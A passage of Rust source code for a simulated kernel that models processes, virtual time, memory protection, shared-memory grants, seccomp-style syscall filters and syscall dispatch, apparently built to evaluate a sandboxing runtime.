                h = commit::mix(h, u64::from(fd.0));
                h = match target {
                    FdTarget::File { path, offset } => commit::mix(
                        commit::mix(commit::mix(h, 1), commit::hash_str(path)),
                        *offset,
                    ),
                    FdTarget::Device(kind) => {
                        commit::mix(commit::mix(h, 2), commit::hash_str(&format!("{kind:?}")))
                    }
                    FdTarget::Socket { dest } => {
                        commit::mix(commit::mix(h, 3), commit::hash_str(dest))
                    }
                };
            }
            h = match &p.filter {
                None => commit::mix(h, 0),
                Some(f) => {
                    let mut fh = commit::mix(commit::mix(h, 1), u64::from(f.is_locked()));
                    for no in f.allowed_numbers() {
                        fh = commit::mix(fh, no as u64);
                    }
                    fh
                }
            };
        }
        for (id, ch) in &self.channels {
            h = commit::mix(h, u64::from(id.0));
            h = commit::mix(h, ch.fingerprint());
            h = commit::mix(h, u64::from(ch.a.0));
            h = commit::mix(h, u64::from(ch.b.0));
        }
        for (id, seg) in &self.shm {
            h = commit::mix(h, id.0);
            h = commit::mix(h, seg.fingerprint());
            h = commit::mix(h, seg.write_epoch());
            for (pid, perms) in seg.grants() {
                h = commit::mix(commit::mix(h, u64::from(pid.0)), u64::from(perms.bits()));
                h = commit::mix(h, u64::from(seg.is_mapped(pid)));
            }
        }
        h = commit::mix(h, self.fs.fingerprint());
        h = match &self.camera {
            None => commit::mix(h, 0),
            Some(c) => commit::mix(commit::mix(h, 1), c.fingerprint()),
        };
        h = commit::mix(h, self.display.fingerprint());
        commit::mix(h, self.network.fingerprint())
    }

    // ------------------------------------------------------------------
    // Virtual time
    // ------------------------------------------------------------------

    /// Charges `ns` to `pid`'s timeline (per-process mode) or the global
    /// clock. Every cost with a known acting process routes through here.
    fn charge_to(&mut self, pid: Pid, ns: u64) {
        match self.mode {
            TimelineMode::Global => self.clock.charge(ns),
            TimelineMode::PerProcess => self.timelines.entry(pid).or_default().charge(ns),
        }
    }

    /// Charges `ns` to the current time context (per-process mode) or
    /// the global clock, for costs with no obvious acting process.
    fn charge_ctx(&mut self, ns: u64) {
        match (self.mode, self.time_ctx) {
            (TimelineMode::PerProcess, Some(pid)) => {
                self.timelines.entry(pid).or_default().charge(ns)
            }
            _ => self.clock.charge(ns),
        }
    }

    /// `pid`'s current virtual time (global clock under `Global` mode).
    pub fn timeline_ns(&self, pid: Pid) -> u64 {
        match self.mode {
            TimelineMode::Global => self.clock.now_ns(),
            TimelineMode::PerProcess => self.timelines.get(&pid).map_or(0, |c| c.now_ns()),
        }
    }

    /// Switches to one-timeline-per-process virtual time. Existing
    /// processes' timelines are seeded at the current global time.
    pub fn enable_per_process_time(&mut self) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::EnablePerProcessTime);
        self.enable_per_process_time_impl();
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    fn enable_per_process_time_impl(&mut self) {
        if self.mode == TimelineMode::PerProcess {
            return;
        }
        self.mode = TimelineMode::PerProcess;
        let now = self.clock.now_ns();
        for pid in self.procs.keys().copied().collect::<Vec<_>>() {
            let mut c = VirtualClock::new();
            c.charge(now);
            self.timelines.insert(pid, c);
        }
    }

    /// The timeline mode in force.
    pub fn timeline_mode(&self) -> TimelineMode {
        self.mode
    }

    /// Sets the process charged for pid-less costs under per-process
    /// time (no effect under the global clock). Returns the previous
    /// context so callers can restore it.
    pub fn set_time_context(&mut self, pid: Option<Pid>) -> Option<Pid> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::SetTimeContext { pid });
        let prev = std::mem::replace(&mut self.time_ctx, pid);
        self.commit_exit(op, CommitOutcome::Ok(prev.summary()));
        prev
    }

    /// Advances `pid`'s timeline to at least `ns` (a happens-before
    /// merge against an event outside message delivery, e.g. an object
    /// produced by an in-flight call). No-op under the global clock and
    /// when the timeline is already past `ns`.
    pub fn advance_timeline_to(&mut self, pid: Pid, ns: u64) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::AdvanceTimeline { pid, ns });
        self.advance_timeline_to_impl(pid, ns);
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    fn advance_timeline_to_impl(&mut self, pid: Pid, ns: u64) {
        if self.mode != TimelineMode::PerProcess {
            return;
        }
        let t = self.timelines.entry(pid).or_default();
        if ns > t.now_ns() {
            let delta = ns - t.now_ns();
            t.charge(delta);
            self.metrics.timeline_merges += 1;
        }
    }

    /// End-to-end virtual duration of the run: the global clock under
    /// `Global` mode, the max over all process timelines (and any
    /// residual global charges) under `PerProcess`.
    pub fn makespan_ns(&self) -> u64 {
        match self.mode {
            TimelineMode::Global => self.clock.now_ns(),
            TimelineMode::PerProcess => self
                .timelines
                .values()
                .map(|c| c.now_ns())
                .chain(std::iter::once(self.clock.now_ns()))
                .max()
                .unwrap_or(0),
        }
    }

    // ------------------------------------------------------------------
    // Process lifecycle
    // ------------------------------------------------------------------

    /// Spawns a new process, charging the spawn cost.
    pub fn spawn(&mut self, name: &str) -> Pid {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::Spawn {
            name: name.to_owned(),
        });
        let pid = self.spawn_impl(name);
        self.commit_exit(op, CommitOutcome::Ok(pid.summary()));
        pid
    }

    fn spawn_impl(&mut self, name: &str) -> Pid {
        let pid = Pid(self.next_pid);
        self.next_pid += 1;
        self.procs.insert(pid, SimProcess::new(pid, name));
        self.charge_ctx(self.cost.spawn_ns);
        if self.mode == TimelineMode::PerProcess {
            // The child exists once the spawner has paid the spawn cost:
            // its timeline starts at the spawner's current time.
            let birth = match self.time_ctx {
                Some(p) => self.timeline_ns(p),
                None => self.clock.now_ns(),
            };
            let mut c = VirtualClock::new();
            c.charge(birth);
            self.timelines.insert(pid, c);
        }
        self.metrics.spawns += 1;
        pid
    }

    /// Immutable access to a process.
    pub fn process(&self, pid: Pid) -> SimResult<&SimProcess> {
        self.procs.get(&pid).ok_or(SimError::NoSuchProcess(pid))
    }

    /// Mutable access to a process (harness-level, not attacker-level).
    pub fn process_mut(&mut self, pid: Pid) -> SimResult<&mut SimProcess> {
        self.procs.get_mut(&pid).ok_or(SimError::NoSuchProcess(pid))
    }

    /// All pids, in spawn order.
    pub fn pids(&self) -> Vec<Pid> {
        self.procs.keys().copied().collect()
    }

    /// Number of processes ever spawned and still tracked.
    pub fn process_count(&self) -> usize {
        self.procs.len()
    }

    /// True when the process exists and is running.
    pub fn is_running(&self, pid: Pid) -> bool {
        self.procs.get(&pid).is_some_and(|p| p.is_running())
    }

    /// Delivers a fatal fault to `pid`, marking it crashed.
    ///
    /// When recording, a direct call (not one nested inside another
    /// kernel op such as `syscall`) logs a [`CommitOp::DeliverFault`] —
    /// this is how faults raised by otherwise-pure reads
    /// ([`Kernel::mem_read`], [`Kernel::shm_read`]) enter the log.
    pub fn deliver_fault(&mut self, pid: Pid, kind: FaultKind, addr: Option<Addr>) -> Fault {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::DeliverFault {
            pid,
            kind: kind.clone(),
            addr,
        });
        let fault = self.deliver_fault_impl(pid, kind, addr);
        self.commit_exit(op, CommitOutcome::Ok(fault.summary()));
        fault
    }

    fn deliver_fault_impl(&mut self, pid: Pid, kind: FaultKind, addr: Option<Addr>) -> Fault {
        let fault = Fault { pid, kind, addr };
        if let Some(p) = self.procs.get_mut(&pid) {
            if p.is_running() {
                p.state = ProcessState::Crashed(fault.clone());
                self.metrics.faults += 1;
            }
        }
        fault
    }

    /// Reaps a dead process: the corpse's address space is freed and
    /// every grant or mapping it held on a shared-memory segment is
    /// purged from the kernel tables. Returns the number of pages freed.
    ///
    /// Reaping is the supervisor's cleanup step, not a kill — the target
    /// must already be crashed or exited ([`Errno::Eperm`] otherwise).
    /// The pid's virtual timeline is kept so makespan stays monotone,
    /// and nothing is charged: freeing a corpse is kernel bookkeeping,
    /// off every measured path.
    ///
    /// # Errors
    ///
    /// [`SimError::NoSuchProcess`] if the pid is unknown (double reap),
    /// [`SimError::Errno`] (`EPERM`) if the process is still running.
    pub fn reap(&mut self, pid: Pid) -> SimResult<u64> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::Reap { pid });
        let r = self.reap_impl(pid);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn reap_impl(&mut self, pid: Pid) -> SimResult<u64> {
        let p = self.procs.get(&pid).ok_or(SimError::NoSuchProcess(pid))?;
        if p.is_running() {
            return Err(SimError::Errno(Errno::Eperm));
        }
        let pages = p.aspace.mapped_bytes() / PAGE_SIZE;
        self.procs.remove(&pid);
        for seg in self.shm.values_mut() {
            seg.purge(pid);
        }
        self.metrics.reaps += 1;
        Ok(pages)
    }

    fn require_running(&self, pid: Pid) -> SimResult<()> {
        let p = self.process(pid)?;
        if p.is_running() {
            Ok(())
        } else {
            Err(SimError::ProcessDead(pid))
        }
    }

    // ------------------------------------------------------------------
    // Memory
    // ------------------------------------------------------------------

    /// Allocates fresh memory in `pid`'s address space (harness-level
    /// `mmap`; no syscall charge — agents' own allocations go through
    /// [`Syscall::Mmap`]).
    pub fn alloc(&mut self, pid: Pid, len: u64, perms: Perms) -> SimResult<Addr> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::Alloc { pid, len, perms });
        let r = self.alloc_impl(pid, len, perms);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn alloc_impl(&mut self, pid: Pid, len: u64, perms: Perms) -> SimResult<Addr> {
        self.require_running(pid)?;
        Ok(self.process_mut(pid)?.aspace.alloc(len, perms))
    }

    /// Reads `len` bytes at `addr` in `pid`'s address space.
    ///
    /// # Errors
    ///
    /// On a permission or mapping violation the process is crashed and
    /// [`SimError::Fault`] is returned — the simulated `SIGSEGV`.
    pub fn mem_read(&mut self, pid: Pid, addr: Addr, len: u64) -> SimResult<Vec<u8>> {
        self.require_running(pid)?;
        let p = self.procs.get_mut(&pid).expect("checked");
        match p.aspace.read(addr, len) {
            Ok(bytes) => Ok(bytes),
            Err(kind) => Err(self.deliver_fault(pid, kind, Some(addr)).into()),
        }
    }

    /// Writes `bytes` at `addr` in `pid`'s address space.
    ///
    /// # Errors
    ///
    /// Same crash semantics as [`Kernel::mem_read`]. A write to a page
    /// FreePart made read-only is exactly this fault.
    pub fn mem_write(&mut self, pid: Pid, addr: Addr, bytes: &[u8]) -> SimResult<()> {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::MemWrite {
            pid,
            addr,
            bytes: bytes.to_vec(),
        });
        let r = self.mem_write_impl(pid, addr, bytes);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn mem_write_impl(&mut self, pid: Pid, addr: Addr, bytes: &[u8]) -> SimResult<()> {
        self.require_running(pid)?;
        let p = self.procs.get_mut(&pid).expect("checked");
        match p.aspace.write(addr, bytes) {
            Ok(()) => Ok(()),
            Err(kind) => Err(self.deliver_fault(pid, kind, Some(addr)).into()),
        }
    }

    /// Sum of per-page write generations over `[addr, addr+len)` in
    /// `pid`'s address space, or `None` if the process is gone, dead, or
    /// the range is (partially) unmapped. See
    /// [`AddressSpace::write_epoch`](crate::mem::AddressSpace::write_epoch);
    /// reading an epoch charges nothing.
    pub fn write_epoch(&self, pid: Pid, addr: Addr, len: u64) -> Option<u64> {
        let p = self.procs.get(&pid)?;
        if !p.is_running() {
            return None;
        }
        p.aspace.write_epoch(addr, len)
    }

    /// Simulates executing code at `addr` (X permission check).
    pub fn mem_fetch(&mut self, pid: Pid, addr: Addr) -> SimResult<()> {
        self.require_running(pid)?;
        let p = self.procs.get_mut(&pid).expect("checked");
        match p.aspace.fetch(addr) {
            Ok(()) => Ok(()),
            Err(kind) => Err(self.deliver_fault(pid, kind, Some(addr)).into()),
        }
    }

    /// Harness-level protection change *with* cost/metric accounting but
    /// without a syscall (used by the FreePart runtime, which is trusted
    /// and runs outside the filtered processes, per the threat model).
    ///
    /// Accounting is **differential**: only pages whose permissions
    /// actually change are charged and counted, so re-protecting an
    /// already-read-only object costs (and audits) zero pages.
    pub fn protect(&mut self, pid: Pid, addr: Addr, len: u64, perms: Perms) -> SimResult<u64> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::Protect {
            pid,
            addr,
            len,
            perms,
        });
        let r = self.protect_impl(pid, addr, len, perms);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn protect_impl(&mut self, pid: Pid, addr: Addr, len: u64, perms: Perms) -> SimResult<u64> {
        self.require_running(pid)?;
        let p = self.procs.get_mut(&pid).expect("checked");
        match p.aspace.protect(addr, len, perms) {
            Ok(changed) => {
                if changed > 0 {
                    let ns = self.cost.mprotect_cost(changed);
                    self.charge_to(pid, ns);
                    self.metrics.protected_pages += changed;
                }
                Ok(changed)
            }
            Err(_) => Err(SimError::Errno(Errno::Einval)),
        }
    }

    /// True when every page of `[addr, addr+len)` in `pid`'s address
    /// space is already at exactly `perms` — a protection change would be
    /// a no-op. Lets trusted callers skip the call (and its audit trail)
    /// entirely when the permission delta is empty.
    pub fn perms_match(&self, pid: Pid, addr: Addr, len: u64, perms: Perms) -> bool {
        self.procs
            .get(&pid)
            .is_some_and(|p| p.is_running() && p.aspace.perms_match(addr, len, perms))
    }

    // ------------------------------------------------------------------
    // Shared memory
    // ------------------------------------------------------------------

    /// Creates a kernel-owned segment seeded with `bytes` and grants the
    /// owner read-write access, page-mapped.
    ///
    /// Creation adopts the payload pages rather than copying them (the
    /// runtime promotes an existing buffer by remapping), so it charges
    /// only the per-page mapping cost, never [`CostModel::copy_cost`].
    pub fn shm_create(&mut self, owner: Pid, bytes: Vec<u8>) -> SimResult<ShmId> {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::ShmCreate {
            owner,
            bytes: bytes.clone(),
        });
        let r = self.shm_create_impl(owner, bytes);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn shm_create_impl(&mut self, owner: Pid, bytes: Vec<u8>) -> SimResult<ShmId> {
        self.require_running(owner)?;
        let id = ShmId(self.next_shm);
        self.next_shm += 1;
        let len = bytes.len() as u64;
        let mut seg = ShmSegment::new(bytes);
        seg.grants.insert(owner, Perms::RW);
        seg.mapped.insert(owner);
        self.shm.insert(id, seg);
        let ns = self.cost.syscall_ns + self.cost.shm_map_cost(len);
        self.charge_to(owner, ns);
        self.metrics.shm_grants += 1;
        self.metrics.shm_mapped_bytes += len;
        Ok(id)
    }

    /// Grants (or replaces) `pid`'s permissions on segment `id`.
    ///
    /// A grant is a permission-table entry; it costs one syscall. Data
    /// only becomes addressable after [`Kernel::shm_map`].
    pub fn shm_grant(&mut self, id: ShmId, pid: Pid, perms: Perms) -> SimResult<()> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ShmGrant { id, pid, perms });
        let r = self.shm_grant_impl(id, pid, perms);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn shm_grant_impl(&mut self, id: ShmId, pid: Pid, perms: Perms) -> SimResult<()> {
        self.require_running(pid)?;
        let seg = self.shm.get_mut(&id).ok_or(SimError::Errno(Errno::Ebadf))?;
        seg.grants.insert(pid, perms);
        let ns = self.cost.syscall_ns;
        self.charge_to(pid, ns);
        self.metrics.shm_grants += 1;
        Ok(())
    }

    /// Page-maps segment `id` into `pid`'s view.
    ///
    /// Charges [`CostModel::shm_map_cost`] — PTE installs, no byte
    /// movement — and counts the segment length into
    /// `metrics.shm_mapped_bytes`. Requires an existing grant. Mapping
    /// an already-mapped segment is a cheap no-op (one syscall).
    pub fn shm_map(&mut self, pid: Pid, id: ShmId) -> SimResult<u64> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ShmMap { pid, id });
        let r = self.shm_map_impl(pid, id);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn shm_map_impl(&mut self, pid: Pid, id: ShmId) -> SimResult<u64> {
        self.require_running(pid)?;
        let seg = self.shm.get_mut(&id).ok_or(SimError::Errno(Errno::Ebadf))?;
        if !seg.grants.contains_key(&pid) {
            return Err(SimError::Errno(Errno::Eacces));
        }
        let len = seg.len();
        if seg.mapped.insert(pid) {
            let ns = self.cost.syscall_ns + self.cost.shm_map_cost(len);
            self.charge_to(pid, ns);
            self.metrics.shm_mapped_bytes += len;
        } else {
            let ns = self.cost.syscall_ns;
            self.charge_to(pid, ns);
        }
        Ok(len)
    }

    /// Revokes `pid`'s grant and mapping on segment `id`.
    ///
    /// This is the temporal-permission teardown the runtime performs at
    /// framework-state transitions: the payload stays put, the view
    /// disappears. Charged like an `mprotect` over the segment (PTE
    /// clear + TLB shootdown), to the *revoker's* time context, not the
    /// victim's. Returns whether a grant actually existed.
    pub fn shm_revoke(&mut self, id: ShmId, pid: Pid) -> SimResult<bool> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ShmRevoke { id, pid });
        let r = self.shm_revoke_impl(id, pid);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn shm_revoke_impl(&mut self, id: ShmId, pid: Pid) -> SimResult<bool> {
        let seg = self.shm.get_mut(&id).ok_or(SimError::Errno(Errno::Ebadf))?;
        let existed = seg.grants.remove(&pid).is_some();
        seg.mapped.remove(&pid);
        if existed {
            let pages = seg.len().div_ceil(PAGE_SIZE).max(1);
            let ns = self.cost.mprotect_cost(pages);
            self.charge_ctx(ns);
            self.metrics.shm_revokes += 1;
        }
        Ok(existed)
    }

    /// Downgrades or upgrades every existing grant on `id` to `perms`
    /// without revoking (the state machine's lock/unlock over segments).
    ///
    /// Counts the affected pages into `metrics.protected_pages`, once
    /// per grant, exactly as [`Kernel::protect`] does for private pages,
    /// so audit-log page accounting stays whole.
    pub fn shm_protect_all(&mut self, id: ShmId, perms: Perms) -> SimResult<u64> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ShmProtectAll { id, perms });
        let r = self.shm_protect_all_impl(id, perms);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn shm_protect_all_impl(&mut self, id: ShmId, perms: Perms) -> SimResult<u64> {
        let seg = self.shm.get_mut(&id).ok_or(SimError::Errno(Errno::Ebadf))?;
        let pages = seg.len().div_ceil(PAGE_SIZE).max(1);
        let mut changed = 0;
        for p in seg.grants.values_mut() {
            if *p != perms {
                *p = perms;
                changed += pages;
            }
        }
        if changed > 0 {
            let ns = self.cost.mprotect_cost(changed);
            self.charge_ctx(ns);
            self.metrics.protected_pages += changed;
        }
        Ok(changed)
    }

    /// Reads the whole payload of segment `id` as `pid`.
    ///
    /// # Errors
    ///
    /// Without a readable, mapped grant the access is a protection fault
    /// and `pid` is crashed — identical semantics to
    /// [`Kernel::mem_read`] on a revoked page.
    pub fn shm_read(&mut self, pid: Pid, id: ShmId) -> SimResult<Vec<u8>> {
        self.require_running(pid)?;
        let Some(seg) = self.shm.get(&id) else {
            return Err(self.deliver_fault(pid, FaultKind::Unmapped, None).into());
        };
        let ok = seg.is_mapped(pid) && seg.grant_of(pid).is_some_and(|p| p.readable());
        if !ok {
            return Err(self.deliver_fault(pid, FaultKind::Protection, None).into());
        }
        Ok(self.shm.get(&id).expect("checked").data.clone())
    }

    /// Replaces the payload of segment `id` as `pid` (length may change;
    /// segments resize like a remapped buffer would).
    ///
    /// # Errors
    ///
    /// Without a writable, mapped grant the access is a protection fault
    /// and `pid` is crashed — the fault FreePart's temporal grants are
    /// designed to induce.
    pub fn shm_write(&mut self, pid: Pid, id: ShmId, bytes: &[u8]) -> SimResult<()> {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::ShmWrite {
            pid,
            id,
            bytes: bytes.to_vec(),
        });
        let r = self.shm_write_impl(pid, id, bytes);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn shm_write_impl(&mut self, pid: Pid, id: ShmId, bytes: &[u8]) -> SimResult<()> {
        self.require_running(pid)?;
        let Some(seg) = self.shm.get(&id) else {
            return Err(self.deliver_fault(pid, FaultKind::Unmapped, None).into());
        };
        let ok = seg.is_mapped(pid) && seg.grant_of(pid).is_some_and(|p| p.writable());
        if !ok {
            return Err(self.deliver_fault(pid, FaultKind::Protection, None).into());
        }
        let seg = self.shm.get_mut(&id).expect("checked");
        seg.replace_data(bytes);
        Ok(())
    }

    /// Inspects a segment (grants, mapping, length), if it exists.
    pub fn shm_segment(&self, id: ShmId) -> Option<&ShmSegment> {
        self.shm.get(&id)
    }

    /// All live segments in id order — lets callers audit the whole
    /// grant table (e.g. "no dead pid holds a view anywhere").
    pub fn shm_segments(&self) -> impl Iterator<Item = (ShmId, &ShmSegment)> {
        self.shm.iter().map(|(id, seg)| (*id, seg))
    }

    /// Destroys segment `id`, dropping payload and all grants. Returns
    /// whether the segment existed.
    pub fn shm_destroy(&mut self, id: ShmId) -> bool {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ShmDestroy { id });
        let existed = self.shm.remove(&id).is_some();
        self.commit_exit(op, CommitOutcome::Ok(existed.summary()));
        existed
    }

    // ------------------------------------------------------------------
    // Filters
    // ------------------------------------------------------------------

    /// Installs (or replaces) the seccomp-style filter on `pid`.
    ///
    /// # Errors
    ///
    /// `EPERM` once the process has set `PR_SET_NO_NEW_PRIVS` — the lock
    /// that stops a compromised agent from relaxing its own sandbox.
    pub fn install_filter(&mut self, pid: Pid, filter: SyscallFilter) -> SimResult<()> {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::InstallFilter {
            pid,
            filter: filter.clone(),
        });
        let r = self.install_filter_impl(pid, filter);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn install_filter_impl(&mut self, pid: Pid, filter: SyscallFilter) -> SimResult<()> {
        self.require_running(pid)?;
        let p = self.procs.get_mut(&pid).expect("checked");
        if p.no_new_privs {
            return Err(SimError::Errno(Errno::Eperm));
        }
        p.filter = Some(filter);
        Ok(())
    }

    /// The filter currently installed on `pid`, if any.
    pub fn filter_of(&self, pid: Pid) -> SimResult<Option<&SyscallFilter>> {
        Ok(self.process(pid)?.filter.as_ref())
    }

    // ------------------------------------------------------------------
    // Syscalls
    // ------------------------------------------------------------------

    /// Executes one syscall on behalf of `pid`.
    ///
    /// The caller's filter is consulted first; a denied call kills the
    /// process (`SIGSYS`) and returns the fault. Allowed calls charge
    /// [`CostModel::syscall_ns`] plus operation-specific costs and then
    /// dispatch to the file system / devices / memory manager.
    ///
    /// # Errors
    ///
    /// [`SimError::Errno`] for ordinary failures; [`SimError::Fault`]
    /// when the filter killed the process.
    pub fn syscall(&mut self, pid: Pid, call: Syscall) -> SimResult<SyscallRet> {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::Syscall {
            pid,
            call: call.clone(),
        });
        let r = self.syscall_impl(pid, call);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn syscall_impl(&mut self, pid: Pid, call: Syscall) -> SimResult<SyscallRet> {
        self.require_running(pid)?;
        // Filter check (seccomp runs before the syscall body).
        let decision = self
            .procs
            .get(&pid)
            .expect("checked")
            .filter
            .as_ref()
            .map_or(FilterDecision::Allow, |f| f.evaluate(&call));
        if decision == FilterDecision::Kill {
            self.metrics.filter_kills += 1;
            let fault = self.deliver_fault(pid, FaultKind::SyscallDenied(call.number()), None);
            return Err(fault.into());
        }
        self.charge_to(pid, self.cost.syscall_ns);
        self.metrics.syscalls += 1;
        self.dispatch(pid, call)
    }

    fn dispatch(&mut self, pid: Pid, call: Syscall) -> SimResult<SyscallRet> {
        use Syscall as S;
        match call {
            // ---------------- file I/O ----------------
            S::Openat { path, create } => {
                if path.starts_with("/dev/video") {
                    let fd = self
                        .process_mut(pid)?
                        .install_fd(FdTarget::Device(DeviceKind::Camera));
                    return Ok(SyscallRet::NewFd(fd));
                }
                self.fs.open(&path, create)?;
                let fd = self
                    .process_mut(pid)?
                    .install_fd(FdTarget::File { path, offset: 0 });
                Ok(SyscallRet::NewFd(fd))
            }
            S::Close { fd } => {
                self.process_mut(pid)?.fd_table.remove(&fd);
                Ok(SyscallRet::Ok)
            }
            S::Read { fd, len } => {
                let target = self
                    .process(pid)?
                    .fd_target(fd)
                    .cloned()
                    .ok_or(Errno::Ebadf)?;
                match target {
                    FdTarget::File { path, offset } => {
                        let bytes = self.fs.read_at(&path, offset, len)?;
                        let ns = self.cost.file_cost(bytes.len() as u64);
                        self.charge_to(pid, ns);
                        if let Some(FdTarget::File { offset, .. }) =
                            self.process_mut(pid)?.fd_table.get_mut(&fd)
                        {
                            *offset += bytes.len() as u64;
                        }
                        Ok(SyscallRet::Bytes(bytes))
                    }
                    FdTarget::Device(DeviceKind::Camera) => {
                        let frame = self
                            .camera
                            .as_mut()
                            .map(|c| c.capture())
                            .ok_or(Errno::Enosys)?;
                        let ns = self.cost.file_cost(frame.len() as u64);
                        self.charge_to(pid, ns);
                        Ok(SyscallRet::Bytes(frame))
                    }
                    _ => Err(Errno::Enosys.into()),
                }
            }
            S::Write { fd, bytes } => {
                let target = self
                    .process(pid)?
                    .fd_target(fd)
                    .cloned()
                    .ok_or(Errno::Ebadf)?;
                match target {
                    FdTarget::File { path, offset } => {
                        let n = self.fs.write_at(&path, offset, &bytes)?;
                        let ns = self.cost.file_cost(n);
                        self.charge_to(pid, ns);
                        if let Some(FdTarget::File { offset, .. }) =
                            self.process_mut(pid)?.fd_table.get_mut(&fd)
                        {
                            *offset += n;
                        }
                        Ok(SyscallRet::Num(n))
                    }
                    FdTarget::Socket { dest } => {
                        self.net_send(pid, &dest, &bytes);
                        Ok(SyscallRet::Num(bytes.len() as u64))
                    }
                    FdTarget::Device(DeviceKind::GuiSocket) => {
                        self.display.blitted_bytes += bytes.len() as u64;
                        Ok(SyscallRet::Num(bytes.len() as u64))
                    }
                    _ => Err(Errno::Enosys.into()),
                }
            }
            S::Lseek { fd, pos } => match self.process_mut(pid)?.fd_table.get_mut(&fd) {
                Some(FdTarget::File { offset, .. }) => {
                    *offset = pos;
                    Ok(SyscallRet::Num(pos))
                }
                Some(_) => Err(Errno::Enosys.into()),
                None => Err(Errno::Ebadf.into()),
            },
            S::Fstat { fd } => {
                let target = self
                    .process(pid)?
                    .fd_target(fd)
                    .cloned()
                    .ok_or(Errno::Ebadf)?;
                match target {
                    FdTarget::File { path, .. } => Ok(SyscallRet::Num(self.fs.size(&path)?)),
                    _ => Ok(SyscallRet::Num(0)),
                }
            }
            S::Lstat { path } | S::Stat { path } | S::Access { path } => {
                if self.fs.exists(&path) {
                    Ok(SyscallRet::Num(self.fs.size(&path)?))
                } else {
                    Err(Errno::Enoent.into())
                }
            }
            S::Getdents { path } => {
                let listing = self.fs.list(&path).join("\n");
                Ok(SyscallRet::Bytes(listing.into_bytes()))
            }
            S::Mkdir { path } => {
                self.fs.mkdir(&path);
                Ok(SyscallRet::Ok)
            }
            S::Unlink { path } => {
                self.fs.unlink(&path)?;
                Ok(SyscallRet::Ok)
            }
            S::Rename { from, to } => {
                self.fs.rename(&from, &to)?;
                Ok(SyscallRet::Ok)
            }
            S::Umask { mask } => Ok(SyscallRet::Num(mask as u64)),
            S::Dup { fd } => {
                let target = self
                    .process(pid)?
                    .fd_target(fd)
                    .cloned()
                    .ok_or(Errno::Ebadf)?;
                let new = self.process_mut(pid)?.install_fd(target);
                Ok(SyscallRet::NewFd(new))
            }
            S::Fcntl { fd } => {
                self.process(pid)?.fd_target(fd).ok_or(Errno::Ebadf)?;
                Ok(SyscallRet::Ok)
            }

            // ---------------- memory ----------------
            S::Brk { grow } => {
                let addr = self.process_mut(pid)?.aspace.alloc(grow.max(1), Perms::RW);
                Ok(SyscallRet::Mapped(addr))
            }
            S::Mmap { len, perms } => {
                let addr = self.process_mut(pid)?.aspace.alloc(len.max(1), perms);
                Ok(SyscallRet::Mapped(addr))
            }
            S::Munmap { addr, len } => {
                self.process_mut(pid)?.aspace.unmap(addr, len);
                Ok(SyscallRet::Ok)
            }
            S::Mprotect { addr, len, perms } => {
                let p = self.procs.get_mut(&pid).expect("checked");
                match p.aspace.protect(addr, len, perms) {
                    Ok(changed) => {
                        if changed > 0 {
                            let ns = self.cost.mprotect_cost(changed);
                            self.charge_to(pid, ns);
                            self.metrics.protected_pages += changed;
                        }
                        Ok(SyscallRet::Num(changed))
                    }
                    Err(_) => Err(Errno::Einval.into()),
                }
            }

            // ---------------- process ----------------
            S::Fork => {
                // Semantically a no-op in the cooperative simulation; the
                // call exists so fork-bomb payloads hit the filter.
                self.charge_to(pid, self.cost.spawn_ns);
                Ok(SyscallRet::Num(0))
            }
            S::Execve { .. } => Ok(SyscallRet::Ok),
            S::Exit { code } => {
                self.process_mut(pid)?.state = ProcessState::Exited(code);
                Ok(SyscallRet::Ok)
            }
            S::Kill { target_pid } => {
                self.deliver_fault(Pid(target_pid), FaultKind::Abort, None);
                Ok(SyscallRet::Ok)
            }
            S::Getpid => Ok(SyscallRet::Num(pid.0 as u64)),
            S::Getuid => Ok(SyscallRet::Num(1000)),
            S::Getcwd => Ok(SyscallRet::Bytes(b"/".to_vec())),
            S::Uname => Ok(SyscallRet::Bytes(b"simos 1.0".to_vec())),
            S::SchedYield => Ok(SyscallRet::Ok),
            S::Nanosleep { ns } => {
                self.charge_to(pid, ns);
                Ok(SyscallRet::Ok)
            }
            S::PrctlNoNewPrivs => {
                let p = self.process_mut(pid)?;
                p.no_new_privs = true;
                if let Some(f) = &mut p.filter {
                    f.lock();
                }
                Ok(SyscallRet::Ok)
            }
            S::Seccomp => Ok(SyscallRet::Ok),

            // ---------------- devices ----------------
            S::Ioctl { fd, .. } => match self.process(pid)?.fd_target(fd) {
                Some(FdTarget::Device(_)) => Ok(SyscallRet::Ok),
                Some(_) => Ok(SyscallRet::Ok),
                None => Err(Errno::Ebadf.into()),
            },
            S::Select { .. } | S::Poll { .. } => Ok(SyscallRet::Ok),
            S::Eventfd2 => {
                let fd = self
                    .process_mut(pid)?
                    .install_fd(FdTarget::Device(DeviceKind::Event));
